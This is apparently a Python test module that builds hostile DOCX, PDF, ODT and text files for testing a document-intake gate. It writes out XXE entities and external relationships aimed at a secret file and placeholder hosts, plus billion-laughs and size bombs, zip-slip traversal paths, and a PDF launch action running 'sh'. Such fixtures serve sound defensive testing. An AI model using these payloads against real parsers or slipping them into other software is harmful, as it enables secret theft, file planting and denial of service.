"""Files from outside that are made to harm whoever opens them. Some point at a secret that nobody may read."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from itertools import islice
from pathlib import Path
from random import Random

from tests.documents.gate.hostile import locked, overlapping, packed, png_head

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
MAIN = f'<Relationship Id="r1" Type="{R}/officeDocument" Target="word/document.xml"/>'
TEXT = "<w:p><w:r><w:t>Referat af mødet den 4. februar 2027</w:t></w:r></w:p>"
REACHING = ("attachedTemplate", "image", "oleObject", "aFChunk", "subDocument", "hyperlink", "frame")
NESTED = 30_000
COUNT_OF_SMALL = 20
"""So many come before any that is large."""


def word_file(body: str = TEXT, head: str = "", relations: str = "", *more: tuple[str, str | bytes]) -> bytes:
    document = (
        f'<?xml version="1.0"?>{head}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'
    )
    parts = [
        ("[Content_Types].xml", TYPES),
        ("_rels/.rels", RELATIONS.format(MAIN)),
        ("word/document.xml", document),
        ("word/_rels/document.xml.rels", RELATIONS.format(relations)),
    ]
    return packed([*parts, *more])


def said(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def entities(secret: Path) -> Iterator[tuple[str, bytes]]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    yield "laughs.docx", word_file(said("&l11;"), f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]>')
    yield "long-entity.docx", word_file(said("&a;" * 50_000), f'<!DOCTYPE d [<!ENTITY a "{"a" * 50_000}">]>')
    for name, place in (("file", secret.as_uri()), ("net", "http://192.0.2.1/x"), ("name", "http://fjord.invalid/x")):
        yield f"entity-{name}.docx", word_file(said("&x;"), f'<!DOCTYPE d [<!ENTITY x SYSTEM "{place}">]>')
        yield f"dtd-{name}.docx", word_file(TEXT, f'<!DOCTYPE d SYSTEM "{place}">')


def reaching_out(secret: Path) -> Iterator[tuple[str, bytes]]:
    for sort in REACHING:
        for name, place in (
            ("file", secret.as_uri()),
            ("net", "http://192.0.2.1/x.dotm"),
            ("share", "\\\\192.0.2.1\\x"),
        ):
            relation = f'<Relationship Id="r9" Type="{R}/{sort}" Target="{place}" TargetMode="External"/>'
            yield f"{sort}-{name}.docx", word_file(TEXT, "", relation)
    field = f"<w:p><w:fldSimple w:instr=\" INCLUDETEXT '{secret}' \"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>"
    yield "field.docx", word_file(TEXT + field)
    for name in (
        "../../outside/planted.txt",
        "/outside/planted.txt",
        "..\\..\\outside\\planted.txt",
        "C:\\planted.txt",
    ):
        yield f"slip-{len(name)}.docx", word_file(TEXT, "", "", (name, "planted"))
    inside = f'<Relationship Id="r9" Type="{R}/image" Target="../../../../../../{secret}"/>'
    yield "climbing.docx", word_file(TEXT, "", inside)


def too_much() -> Iterator[tuple[str, bytes]]:
    yield "overlapping.docx", overlapping(2_000)
    yield "zeros.docx", word_file(TEXT, "", "", ("word/media/a.png", bytes(600_000_000)))
    yield "long.docx", word_file(said("Ø" * 60_000_000))
    yield "deep.docx", word_file("<w:tbl><w:tr><w:tc>" * NESTED + TEXT + "</w:tc></w:tr></w:tbl>" * NESTED)
    yield "spans.docx", word_file("<w:p>" + "<w:ins>" * NESTED + "</w:ins>" * NESTED + "</w:p>")
    yield "lines.docx", word_file(said("Punkt 1") * 400_000)
    yield "cells.docx", word_file("<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 300_000 + "</w:tr></w:tbl>")
    span = '<w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>'
    yield "span.docx", word_file(f"<w:tbl><w:tr><w:tc>{span}{TEXT}</w:tc></w:tr></w:tbl>")
    attributes = "".join(f' a{number}="x"' for number in range(200_000))
    yield "attributes.docx", word_file(f"<w:p{attributes}/>")
    yield "names.docx", packed([(f"word/{number}.xml", "x") for number in range(60_000)])
    picture = f'<Relationship Id="r9" Type="{R}/image" Target="media/a.png"/>'
    yield "picture.docx", word_file(TEXT, "", picture, ("word/media/a.png", png_head(60_000, 60_000)))
    yield "long.txt", ("Punkt 1. Godkendelse af dagsorden. " * 2_000_000).encode()
    yield "one-line.txt", b"a" * 60_000_000
    yield "brackets.txt", b"(" * 3_000_000


def broken() -> Iterator[tuple[str, bytes]]:
    chance = Random(5)  # noqa: S311 - rubbish
    yield "locked.docx", locked(word_file())
    yield "cut.docx", word_file()[:-30]
    yield "empty.docx", b""
    yield "rubbish.docx", chance.randbytes(100_000)
    yield "rubbish.pdf", b"%PDF-1.7\n" + chance.randbytes(100_000)
    yield "old.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000)
    yield "utf16.docx", word_file().replace(b"PK", b"KP")
    yield "no-document.docx", packed([("[Content_Types].xml", TYPES)])
    action = b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(sh)>>>>endobj\n"
    yield (
        "launch.pdf",
        b"%PDF-1.4\n" + action + b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\ntrailer<</Root 1 0 R>>",
    )
    yield (
        "circle.pdf",
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 9>>endobj\ntrailer<</Root 1 0 R>>",
    )
    yield (
        "laughs.odt",
        packed(
            [
                ("mimetype", "application/vnd.oasis.opendocument.text"),
                ("content.xml", '<!DOCTYPE d [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><d>&b;</d>'),
            ]
        ),
    )


KINDS: tuple[Callable[[Path], Iterator[tuple[str, bytes]]], ...] = (
    entities,
    reaching_out,
    lambda _secret: broken(),
    lambda _secret: too_much(),
)
"""The large ones come last."""


def hostile_files(secret: Path, chosen: Callable[[int], bool]) -> Iterator[tuple[str, bytes]]:
    """By name, one at a time, those whose number is chosen."""
    everything = (one for kind in KINDS for one in kind(secret))
    small = COUNT_OF_SMALL if not chosen(COUNT_OF_SMALL) else None
    yield from (one for number, one in enumerate(islice(everything, small)) if chosen(number))
